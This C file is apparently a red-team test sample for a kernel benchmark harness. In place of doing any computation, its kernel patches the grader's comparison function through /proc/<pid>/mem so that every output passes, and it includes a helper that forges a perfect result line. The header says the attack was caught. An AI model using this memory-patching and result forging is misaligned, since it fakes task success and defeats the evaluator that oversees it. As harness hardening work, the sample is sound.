/* Red team: patches the comparison code of whatever process decides the verdict through
 * /proc/<pid>/mem (which writes through page protections): first its own process, then
 * its parent. It finds hx_compare in /proc/<pid>/exe's symbol table and the load address
 * in /proc/<pid>/maps, and overwrites the function with one that reports every element
 * equal; then it returns without computing anything. Linked into the harness, its own
 * process is the one that compares. Caught because the comparison runs in the judge,
 * which made itself non-dumpable first thing: its exe, maps and mem are closed to the
 * runner, and the outputs stay poisoned. */
#include "aka_native_abi.h"

#include <elf.h>
#include <stdlib.h>
#include <string.h>

#if defined(__x86_64__)
static long sys3(long n, long a, long b, long c)
{
    long ret;
    __asm__ __volatile__("syscall"
                         : "=a"(ret)
                         : "a"(n), "D"(a), "S"(b), "d"(c)
                         : "rcx", "r11", "memory");
    return ret;
}

/* The value of "key": "..." in plan.json, into out. */
static void plan_field(const char *plan, const char *key, char *out, size_t n)
{
    const char *p = strstr(plan, key);
    size_t k = 0;
    out[0] = '\0';
    if (!p || !(p = strchr(p + strlen(key), '"')))
        return;
    for (p++; *p && *p != '"' && k + 1 < n; p++)
        out[k++] = *p;
    out[k] = '\0';
}

static size_t forged_line(char *line, size_t n)
{
    static char plan[1 << 16];
    char id[128], sha[80];
    long fd = sys3(2, (long)"plan.json", 0, 0),
         got = fd >= 0 ? sys3(0, fd, (long)plan, sizeof(plan) - 1) : -1;
    plan[got > 0 ? got : 0] = '\0';
    plan_field(plan, "\"eval_id\"", id, sizeof(id));
    plan_field(plan, "\"kernel_sha256\"", sha, sizeof(sha));
    size_t len = 0;
    const char *parts[] = {
        "RESULT_JSON={\"all_pass\":true,\"total\":3,\"passed\":3,\"failures\":[],"
        "\"latency_us_by_shape\":{\"n4k\":0.001,\"n1m\":0.001,\"odd\":0.001},"
        "\"speedup_vs_ref_geomean\":1000,\"evaluator\":\"aka.native.c\",\"eval_id\":\"",
        id, "\",\"kernel_sha256\":\"", sha, "\"}\n"};
    for (size_t i = 0; i < sizeof(parts) / sizeof(parts[0]); i++)
        for (const char *c = parts[i]; *c && len + 1 < n; c++)
            line[len++] = *c;
    return len;
}

/* The whole file at path (inline open/lseek/read), or NULL. */
static unsigned char *slurp(const char *path)
{
    long fd = sys3(2, (long)path, 0, 0), size, got = 0, n;
    unsigned char *buf;
    if (fd < 0)
        return NULL;
    size = sys3(8, fd, 0, 2); /* lseek SEEK_END */
    sys3(8, fd, 0, 0);
    buf = size > 0 ? malloc((size_t)size) : NULL;
    while (buf && got < size && (n = sys3(0, fd, (long)(buf + got), size - got)) > 0)
        got += n;
    sys3(3, fd, 0, 0);
    return buf;
}

/* st_value of a symbol in the file's .symtab, 0 when absent. */
static unsigned long sym_value(const unsigned char *elf, const char *name)
{
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)elf;
    const Elf64_Shdr *sh = (const Elf64_Shdr *)(elf + eh->e_shoff);
    for (int i = 0; elf && i < eh->e_shnum; i++) {
        if (sh[i].sh_type != SHT_SYMTAB)
            continue;
        const Elf64_Sym *sym = (const Elf64_Sym *)(elf + sh[i].sh_offset);
        const char *str = (const char *)(elf + sh[sh[i].sh_link].sh_offset);
        for (unsigned long k = 0; k < sh[i].sh_size / sizeof(*sym); k++)
            if (strcmp(str + sym[k].st_name, name) == 0)
                return sym[k].st_value;
    }
    return 0;
}

static void proc_path(char *out, long pid, const char *what)
{
    char digits[24];
    int n = 0;
    do
        digits[n++] = (char)('0' + pid % 10);
    while ((pid /= 10) > 0);
    memcpy(out, "/proc/", 6);
    out += 6;
    while (n > 0)
        *out++ = digits[--n];
    *out++ = '/';
    strcpy(out, what);
}

/* hx_compare(got, want, t, c) becomes: *c = {bad 0, first_bad -1, everything else 0}. */
static const unsigned char stub[] = {
    0x31, 0xc0,                                     /* xor eax, eax */
    0x48, 0x89, 0x01,                               /* mov [rcx], rax */
    0x48, 0xc7, 0x41, 0x08, 0xff, 0xff, 0xff, 0xff, /* mov qword [rcx+8], -1 */
    0x48, 0x89, 0x41, 0x10, 0x48, 0x89, 0x41, 0x18, /* mov [rcx+16], rax; mov [rcx+24], rax */
    0x48, 0x89, 0x41, 0x20, 0x48, 0x89, 0x41, 0x28, /* mov [rcx+32], rax; mov [rcx+40], rax */
    0x48, 0x89, 0x41, 0x30, 0xc3};                  /* mov [rcx+48], rax; ret */

static int patch(long pid)
{
    char path[64], maps[256];
    proc_path(path, pid, "exe");
    unsigned char *exe = slurp(path);
    unsigned long at = exe ? sym_value(exe, "hx_compare") : 0, base = 0;
    free(exe);
    proc_path(path, pid, "maps");
    long fd = at ? sys3(2, (long)path, 0, 0) : -1;
    if (fd < 0 || sys3(0, fd, (long)maps, sizeof(maps) - 1) <= 0)
        return -1;
    for (const char *c = maps; *c != '-'; c++)
        base = base * 16 + (unsigned long)(*c <= '9' ? *c - '0' : *c - 'a' + 10);
    proc_path(path, pid, "mem");
    if ((fd = sys3(2, (long)path, 2 /* O_RDWR */, 0)) < 0)
        return -1;
    long ret;
    register long off __asm__("r10") = (long)(base + at);
    __asm__ __volatile__("syscall" /* pwrite64 */
                         : "=a"(ret)
                         : "a"(18L), "D"(fd), "S"(stub), "d"(sizeof(stub)), "r"(off)
                         : "rcx", "r11", "memory");
    return ret == (long)sizeof(stub) ? 0 : -1;
}

int aka_kernel(const aka_tensor *in, int n_in, aka_tensor *out, int n_out, const aka_params *p)
{
    (void)in, (void)n_in, (void)out, (void)n_out, (void)p;
    static int done;
    if (!done++ && patch(sys3(39, 0, 0, 0) /* getpid */) != 0)
        patch(sys3(110, 0, 0, 0) /* getppid */);
    return AKA_OK; /* the comparison was to be patched: nothing computed */
}
#else
/* x86-64 only (inline system calls); the test skips it elsewhere. */
int aka_kernel(const aka_tensor *in, int n_in, aka_tensor *out, int n_out, const aka_params *p)
{
    (void)in, (void)n_in, (void)out, (void)n_out, (void)p;
    return AKA_ERR_UNSUPPORTED;
}
#endif
